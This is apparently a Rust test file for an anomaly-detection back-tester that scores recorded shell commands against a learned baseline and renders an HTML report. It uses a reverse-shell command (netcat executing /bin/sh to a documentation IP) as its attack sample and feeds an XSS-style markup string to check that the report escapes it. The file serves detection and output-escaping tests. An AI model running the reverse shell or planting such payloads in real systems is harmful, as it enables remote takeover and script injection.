//! Back-tests of recordings made up here.

use std::io::BufReader;
use std::sync::Arc;
use std::time::Duration;

use anomaly_baseline::{Method, Score, Settings, Standing};
use anomaly_capture::recording::{Reader, Recorded};
use anomaly_vectorizer::Hashed;
use anomaly_vectorizer::scrub::Scrubber;

use crate::{Backtest, Budget, How, Options, Outcome, Report, Scale, Step, page};

fn read(lines: &str) -> Vec<Recorded> {
    let reader =
        Reader::new(BufReader::new(lines.as_bytes()), Scrubber::default()).expect("it is plain text");
    reader.map(|line| line.expect("a line that can be read")).collect()
}

fn line(workload: &str, args: &str, more: &str) -> String {
    let name = args.split(' ').next().unwrap_or_default();
    let args = args.split(' ').map(|arg| format!("{arg:?}")).collect::<Vec<_>>().join(",");
    format!(
        "{{\"workload\":\"{workload}\",\"name\":\"{name}\",\"parent\":\"cron\",\"args\":[{args}]{more}}}\n"
    )
}

const ROUTINE: &[&str] = &[
    "df -h /var",
    "curl -s http://127.0.0.1/health",
    "tar -czf /var/backups/etc.tgz /etc",
    "find /tmp -mtime +7",
];

fn baseline() -> Vec<Recorded> {
    let days =
        (0..4).flat_map(|day| ROUTINE.iter().map(move |args| line("web", args, &format!(",\"day\":{day}"))));
    read(&days.collect::<String>())
}

fn attack(session: &str, args: &str) -> String {
    line("web", args, &format!(",\"label\":\"attack\",\"session\":\"{session}\""))
}

const WARN: Score = Score::from_ten_thousandths(8_500);

const STRIKE: &str = "nc -e /bin/sh 203.0.113.7 4444";

struct Run {
    steps: Vec<(Option<Score>, u16, i32, Standing)>,
    outcome: Outcome,
    unknown: Vec<String>,
}

fn run(online: bool, repeat_attack: u16, events: &str) -> Run {
    let options = Options {
        settings: Settings { learn_for: Duration::ZERO, ..Settings::default() },
        method: Method::default(),
        scale: Scale::Calibrated,
        online,
        repeat_attack,
    };
    let mut backtest = Backtest::new(options, Arc::new(Hashed::default()));
    baseline().iter().for_each(|recorded| backtest.learn(recorded));
    backtest.finish_learning(0);
    let mut outcome = Outcome::default();
    let mut steps = Vec::new();
    let mut each = |step: &Step<'_>| {
        outcome.note(step);
        steps.push((step.verdict.score, step.occurrence, step.day, step.verdict.standing));
    };
    read(events).iter().for_each(|recorded| backtest.score(recorded, &mut each));
    let unknown = backtest.finish(&mut each);
    Run { steps, outcome, unknown }
}

#[test]
fn known_events_are_zero_and_attacks_are_found_on_the_last_day() {
    let run = run(false, 1, &(line("web", ROUTINE[0], "") + &attack("a", STRIKE)));
    assert_eq!(run.steps[0].0, Some(Score::ZERO));
    assert!(run.steps[1].0 >= Some(Score::from_ten_thousandths(8500)), "{:?}", run.steps);
    assert_eq!(run.steps[1].2, 3, "a line without a day belongs to the workload's last");
    assert_eq!(run.outcome.at_threshold(None).session_recall, 1.0);
    assert_eq!(run.outcome.tally().sessions, 1);
}

/// What `anomalyctl watch` records has no day: its dates are those of its times.
#[test]
fn lines_without_a_day_belong_to_their_dates() {
    let times = [86_400 * 20_000, 86_400 * 20_001, 86_400 * 20_001 + 5];
    let events = times.map(|time| line("other", ROUTINE[0], &format!(",\"time\":{time}"))).concat();
    assert_eq!(
        run(false, 1, &events).steps.iter().map(|step| step.2).collect::<Vec<_>>(),
        [20_000, 20_001, 20_001]
    );
}

#[test]
fn nothing_is_learned_from_an_attack_and_sessions_do_not_pay_for_each_other() {
    let thrice = attack("a", STRIKE) + &attack("b", STRIKE) + &attack("a", STRIKE);
    let run = run(true, 1, &thrice);
    assert_eq!(run.steps[0].0, run.steps[1].0, "the second session knows nothing of the first");
    assert!(run.steps[2].0 < run.steps[0].0, "within a session a repeat tells less");
    assert!(run.steps.iter().all(|step| step.3 == Standing::Unlearned));
}

#[test]
fn events_teach_only_when_they_are_to() {
    let twice = line("web", "df -i /var", ",\"day\":5").repeat(2);
    let online = run(true, 1, &twice).steps;
    assert!(online[0].0 > Some(Score::ZERO));
    assert_eq!(online[1].0, Some(Score::ZERO));
    let frozen = run(false, 1, &twice).steps;
    assert!(frozen[1].0 > Some(Score::ZERO));
}

#[test]
fn a_repeated_attack_is_scored_daily_and_learned_by_the_policy() {
    let run = run(false, 9, &attack("a", STRIKE));
    assert_eq!(run.steps.iter().map(|step| step.1).collect::<Vec<_>>(), (1..=9).collect::<Vec<_>>());
    assert_eq!(run.steps.iter().map(|step| step.2).collect::<Vec<_>>(), (3..12).collect::<Vec<_>>());
    let found: Vec<_> =
        run.outcome.by_occurrence(WARN).iter().map(|daily| daily.session_recall > 0.5).collect();
    assert!(found[0] && !found[8], "held first, learned in the end: {found:?}");
    assert_eq!(run.outcome.tally().attack, 1, "a repetition is no further event");
}

#[test]
fn a_workload_without_a_baseline_has_no_score_and_is_named() {
    let run = run(true, 1, &line("db", STRIKE, "").repeat(3));
    assert!(run.steps.iter().all(|step| step.0.is_none()));
    assert_eq!(run.unknown, ["db"]);
    assert_eq!(run.outcome.tally().unscored, 3);
}

#[test]
fn lines_of_a_baseline_are_no_events() {
    let run = run(false, 1, &line("web", STRIKE, ",\"split\":\"base\""));
    assert!(run.steps.is_empty());
}

/// Two days of work with news on the second, and two attacks of which one looks like work.
fn mixed() -> Outcome {
    let work = line("web", ROUTINE[0], ",\"day\":5,\"phase\":\"day\"")
        + &line("web", ROUTINE[1], ",\"day\":6,\"phase\":\"deploy\"")
        + &line("web", "make -j4 install", ",\"day\":6,\"phase\":\"deploy\"");
    run(false, 1, &(attack("loud", STRIKE) + &attack("quiet", ROUTINE[2]) + &work)).outcome
}

#[test]
fn every_threshold_costs_and_finds_what_the_curve_says() {
    let outcome = mixed();
    let curve = outcome.thresholds();
    assert!(curve.is_sorted_by(|a, b| a.threshold > b.threshold && a.groups_a_day <= b.groups_a_day));
    for point in &curve {
        assert_eq!(outcome.at_threshold(point.threshold), *point);
    }
    let last = curve.last().expect("there were events");
    assert_eq!((last.threshold, last.groups_a_day, last.session_recall), (Some(Score::ZERO), 1.5, 1.0));
}

#[test]
fn a_suggestion_is_the_smallest_threshold_that_keeps_the_budget() {
    let outcome = mixed();
    let one = outcome.suggest(Budget::default());
    let threshold = one.threshold.expect("there is one");
    assert!(one.groups_a_day <= 1.0 && one.session_recall == Some(0.5), "{one:?}");
    let below = Score::from_ten_thousandths(threshold.ten_thousandths() - 1);
    assert!(outcome.at_threshold(Some(below)).groups_a_day > 1.0);
    let rare = outcome.suggest("1/month".parse().expect("a budget"));
    assert!(rare.groups_a_day == 0.0 && rare.groups_in_all < 1.0, "{rare:?}");
    assert_eq!(run(false, 1, &attack("a", STRIKE)).outcome.suggest(Budget::default()).groups_a_day, 0.0);
}

#[test]
fn days_and_workloads_are_told_apart() {
    let outcome = mixed();
    let kinds = outcome.by_kind(&[Some(WARN)]);
    let told: Vec<_> = kinds.iter().map(|part| (part.of.as_str(), part.days, part.benign)).collect();
    assert_eq!(told, [("steady", 1, 1), ("deployment", 1, 2)]);
    assert_eq!((kinds[0].thresholds[0].groups_a_day, kinds[0].exact), (0.0, 1.0));
    let workloads = outcome.by_workload(&[None]);
    assert_eq!((workloads.len(), workloads[0].days, workloads[0].sessions), (1, 2, 2));
    assert_eq!(workloads[0].thresholds[0], outcome.at_threshold(None));
}

#[test]
fn the_distance_may_stand_for_the_score() {
    let events = attack("a", STRIKE);
    let options = |scale| Options {
        settings: Settings::default(),
        method: Method::default(),
        scale,
        online: false,
        repeat_attack: 1,
    };
    let scored = |scale| {
        let mut backtest = Backtest::new(options(scale), Arc::new(Hashed::default()));
        baseline().iter().for_each(|recorded| backtest.learn(recorded));
        backtest.finish_learning(0);
        let mut verdicts = Vec::new();
        read(&events)
            .iter()
            .for_each(|line| backtest.score(line, &mut |step| verdicts.push(step.verdict.clone())));
        verdicts.remove(0)
    };
    let (calibrated, plain) = (scored(Scale::Calibrated), scored(Scale::Distance));
    assert_eq!((plain.score, plain.threshold), (calibrated.distance, WARN));
    assert_ne!(plain.score, calibrated.score);
}

fn report(outcome: &Outcome) -> Report {
    let how = How {
        version: "0",
        scorer: "hashed".into(),
        baseline: vec!["<b>.jsonl".into()],
        events: vec!["e\u{202e}.jsonl".into()],
        online: true,
        repeat_attack: 3,
        threshold: anomaly_baseline::Threshold::Auto,
        warn: WARN,
        prior: None,
        hash_key: None,
    };
    Report::new(outcome, how, Budget::default(), vec!["<i>nothing</i>".into()])
}

#[test]
fn a_page_shows_attackers_text_as_text_and_loads_nothing() {
    let hostile = line("web", "</script><img/src=//x onerror=a>&'", ",\"day\":5");
    let page = page(&report(&run(false, 1, &(hostile + &attack("<s>\\u0007\\u202e", STRIKE))).outcome));
    // Markup of ours, and nothing of theirs.
    for tag in ["<script", "<img", "<i>", "<b>.", "<s>", "onerror=a>"] {
        assert!(!page.contains(tag), "{tag} in {page}");
    }
    for text in ["&lt;/script&gt;&lt;img/src=//x", "onerror=a&gt;&amp;&#39;", "&lt;s&gt;\\x07\\u{202e}"] {
        assert!(page.contains(text), "no {text} in {page}");
    }
    assert!(!page.contains("http:") && !page.contains("https:") && !page.contains("style="), "{page}");
    assert!(!page.chars().any(|c| c != '\n' && anomaly_baseline::text::needs_escape(c)));
    assert!(page.contains("default-src 'none'"));
}

#[test]
fn every_element_of_a_page_is_closed() {
    for outcome in [mixed(), Outcome::default(), run(false, 1, &attack("a", STRIKE)).outcome] {
        let page = page(&report(&outcome));
        let mut open = Vec::new();
        for tag in page.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()) {
            let name = tag
                .trim_start_matches('/')
                .split([' ', '\n'])
                .next()
                .unwrap_or_default()
                .trim_end_matches('/');
            match tag {
                _ if tag.ends_with('/') || ["!DOCTYPE", "meta", "br"].contains(&name) => {}
                _ if tag.starts_with('/') => assert_eq!(open.pop(), Some(name), "{page}"),
                _ => open.push(name),
            }
        }
        assert!(open.is_empty(), "{open:?}");
    }
}
